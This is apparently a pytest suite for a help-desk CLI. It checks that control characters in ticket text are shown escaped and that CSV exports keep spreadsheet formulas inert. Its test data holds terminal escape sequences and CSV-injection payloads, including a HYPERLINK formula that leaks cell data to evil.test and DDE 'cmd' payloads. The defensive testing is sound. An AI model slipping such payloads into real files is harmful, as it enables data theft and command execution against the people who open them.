"""Reporters' text at the desk: shown on the terminal without driving it, exported without running as formulas.

Real SQLite files written by the desk's own commands, the CLI in-process as desk staff run it.
"""

from __future__ import annotations

import csv
import json
import re
import shutil
import sqlite3
from pathlib import Path

import pytest
from click.testing import Result
from conftest import NOW, maintenance, run, ticket

# An OSC 8 hyperlink, a screen clear, a one-byte CSI (C1), a bell, a backspace and a right-to-left override.
HOSTILE = "Pay\x1b]8;;https://evil.test\x07here\x1b]8;;\x07 \x1b[2J\x9b31m\x08\u202eevil"
RAW_CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def desk(site: Path, *args: str) -> Result:
    result = run("tickets", *args, "--site", str(site))
    assert "Traceback" not in result.output
    return result


def ok(result: Result) -> str:
    assert result.exit_code == 0, result.output
    return result.output


@pytest.fixture
def site(site_factory) -> Path:
    made = site_factory(maintenance=[maintenance()], tickets=[ticket(1)])
    ok(desk(made, "init"))
    return made


def add(site: Path, title: str, *args: str) -> None:
    ok(desk(site, "add", "--title", title, "--severity", "major", "--channel", "chat", "--now", NOW, *args))


def test_list_show_and_update_show_control_characters_instead_of_obeying_them(site: Path) -> None:
    add(site, HOSTILE, "--description", f"Steps:\n{HOSTILE}")
    for output in (
        ok(desk(site, "list")),
        ok(desk(site, "show", "2")),
        ok(desk(site, "update", "2", "--title", HOSTILE + " again")),
    ):
        assert not RAW_CONTROLS.search(output), repr(output)
        assert "\\x1b]8;;https://evil.test\\x07here" in output
        assert "\\x9b31m\\x08\\u202eevil" in output
    shown = ok(desk(site, "show", "2"))
    assert "Steps:\n" in shown  # line breaks in a description are text, not controls


def test_show_indents_the_further_lines_of_a_value(site: Path) -> None:
    """A title with a line break cannot print a line that passes for another column."""
    add(site, "Broken\nreporter_email    boss@example.test  (private)")
    lines = ok(desk(site, "show", "2")).splitlines()
    assert not any(line.startswith("reporter_email    boss@") for line in lines)
    assert any(line.strip().startswith("reporter_email    boss@") for line in lines)


def test_list_json_escapes_controls_and_reads_back_the_same_text(site: Path) -> None:
    add(site, HOSTILE)
    output = ok(desk(site, "list", "--json"))
    assert not RAW_CONTROLS.search(output), repr(output)
    assert next(item for item in json.loads(output) if item["id"] == 2)["title"] == HOSTILE


def test_check_and_build_messages_show_control_characters(site_factory, tmp_path: Path) -> None:
    """Paths and quoted values in messages come from the user's world too: printed visible, never raw."""
    made = site_factory(tickets=[ticket(1)])
    strange = tmp_path / "site\x1b[2J\u202e"
    shutil.move(made, strange)
    connection = sqlite3.connect(strange / "content" / "tickets.db")
    with connection:
        connection.execute("UPDATE tickets SET status = ? WHERE id = 1", ("open\x1b[31m\u202e",))
    connection.close()
    for result in (
        run("check", "--site", str(strange)),
        run("build", "--site", str(strange), "--out", str(tmp_path / "out"), "--now", NOW),
    ):
        assert "Traceback" not in result.output
        assert "ticket 1: unknown status" in result.stderr
        assert not RAW_CONTROLS.search(result.output), repr(result.output)
        assert "site\\x1b[2J\\u202e" in result.stderr


FORMULAS = [
    '=HYPERLINK("https://evil.test/?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted once",
    "''+quoted twice",
    "'plain text after a quote",
    "A normal title",
]


def test_csv_export_keeps_formulas_inert_and_import_reads_back_every_character(site: Path, tmp_path: Path) -> None:
    for number, title in enumerate(FORMULAS, start=10):
        add(site, title, "--id", str(number), "--description", "- step one\n- =step two", "--reporter-name", "=1+2")
    exported = tmp_path / "tickets.csv"
    ok(desk(site, "export", "-o", str(exported)))

    with exported.open(encoding="utf-8", newline="") as handle:  # as a spreadsheet reads it: a CR is a CR
        cells = [cell for record in csv.reader(handle) for cell in record]
    running = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert running == [], running
    assert "'=HYPERLINK(" + FORMULAS[0][len("=HYPERLINK(") :] in cells
    assert "''=already quoted once" in cells and "'''+quoted twice" in cells
    assert "'plain text after a quote" in cells  # no formula character after the quote: left alone

    fresh = tmp_path / "fresh.db"
    ok(run("tickets", "init", "--site", str(site), "--db", str(fresh)))
    ok(run("tickets", "import", str(exported), "--site", str(site), "--db", str(fresh)))

    def every_row(db: Path) -> list[tuple]:
        connection = sqlite3.connect(db)
        found = connection.execute("SELECT * FROM tickets ORDER BY id").fetchall()
        connection.close()
        return found

    assert every_row(fresh) == every_row(site / "content" / "tickets.db")
    titles = {row[1] for row in every_row(fresh)}
    assert set(FORMULAS) <= titles
